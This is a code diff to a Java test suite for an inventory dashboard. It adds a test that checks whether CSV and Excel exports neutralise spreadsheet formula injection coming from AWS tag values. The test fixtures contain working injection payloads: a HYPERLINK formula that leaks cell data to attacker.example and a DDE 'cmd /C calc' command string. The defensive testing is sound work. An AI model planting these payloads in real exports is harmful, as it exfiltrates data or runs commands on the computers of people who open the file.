@@ -65,9 +65,15 @@ class InventoryDashboardExportsTest extends AppTest {
         assertThat(before.json().fieldNames()).toIterable().containsExactly("total_assets", "total_accounts",
                 "critical_assets", "last_discovery", "total_monthly_cost", "total_previous_month_cost", "by_type",
                 "by_service", "by_criticality", "by_status", "accounts", "recent_jobs");
-        assertThat(before.at("/last_discovery").isNull()).isTrue();
-        assertThat(before.at("/recent_jobs").isArray()).isTrue();
-        assertThat(before.at("/recent_jobs").size()).isZero();
+        // other tests in this application context may have run discovery jobs (none against AWS completes here)
+        JsonNode jobs = root().get("/api/discovery/jobs/?page_size=10").at("/results");
+        List<String> newest = new ArrayList<>();
+        jobs.forEach(j -> newest.add(j.get("id").asText()));
+        List<String> recent = new ArrayList<>();
+        before.at("/recent_jobs").forEach(j -> recent.add(j.get("id").asText()));
+        assertThat(recent).isEqualTo(newest);
+        boolean anyCompleted = root().get("/api/discovery/jobs/?status=COMPLETED").at("/count").asInt() > 0;
+        assertThat(before.at("/last_discovery").isNull()).isEqualTo(!anyCompleted);
         assertThat(before.at("/total_monthly_cost").isTextual()).isTrue();
 
         String accountId = String.format("%012d", Math.abs(UUID.randomUUID().getMostSignificantBits()) % 1_000_000_000_000L);
@@ -200,6 +206,38 @@ class InventoryDashboardExportsTest extends AppTest {
             assertThat(column(export.apply("department=" + department + "&ordering=-name"), "Name"))
                     .containsExactly(web, db);
         }
+    }
+
+    /** Names and owners come from AWS tags, which anyone who may tag a resource writes. */
+    @Test
+    void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralised() throws IOException {
+        String department = unique();
+        String category = "@SUM(1+1)-" + department;
+        Response cat = root().post("/api/categories/", Map.of("name", category));
+        assertThat(cat.status()).as(cat.text()).isEqualTo(201);
+        String hyperlink = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
+        asset(hyperlink, "department", department, "owner", "+1+cmd|' /C calc'!A0", "aws_region", "-2+3",
+                "category", cat.at("/id").asText());
+        asset("b-plain", "department", department, "owner", "\tTabbed", "aws_region", "\r=1+1");
+        asset("c-safe", "department", department, "owner", "Team = ops, -1 + @x");
+
+        List<List<String>> csv = csv("department=" + department);
+        List<String> injected = csv.stream().filter(r -> r.get(HEADERS.indexOf("Name")).contains("HYPERLINK")).findFirst().orElseThrow();
+        assertThat(injected.get(HEADERS.indexOf("Name"))).isEqualTo("'" + hyperlink);
+        assertThat(injected.get(HEADERS.indexOf("Owner"))).isEqualTo("'+1+cmd|' /C calc'!A0");
+        assertThat(injected.get(HEADERS.indexOf("AWS Region"))).isEqualTo("'-2+3");
+        assertThat(injected.get(HEADERS.indexOf("Category"))).isEqualTo("'" + category);
+        List<String> tabbed = csv.stream().filter(r -> r.get(HEADERS.indexOf("Name")).equals("b-plain")).findFirst().orElseThrow();
+        assertThat(tabbed.get(HEADERS.indexOf("Owner"))).isEqualTo("'\tTabbed");
+        assertThat(tabbed.get(HEADERS.indexOf("AWS Region"))).isEqualTo("'\r=1+1");
+        List<String> safe = csv.stream().filter(r -> r.get(HEADERS.indexOf("Name")).equals("c-safe")).findFirst().orElseThrow();
+        assertThat(safe.get(HEADERS.indexOf("Owner"))).isEqualTo("Team = ops, -1 + @x"); // only the first character counts
+        assertThat(safe.get(HEADERS.indexOf("Department"))).isEqualTo(department);
+
+        // Excel holds them as text cells (a formula cell would read back without its "="), so they stay as typed
+        List<List<String>> excel = excel("department=" + department);
+        assertThat(column(excel, "Name")).contains(hyperlink);
+        assertThat(column(excel, "Category")).contains(category);
     }
 
     @Test
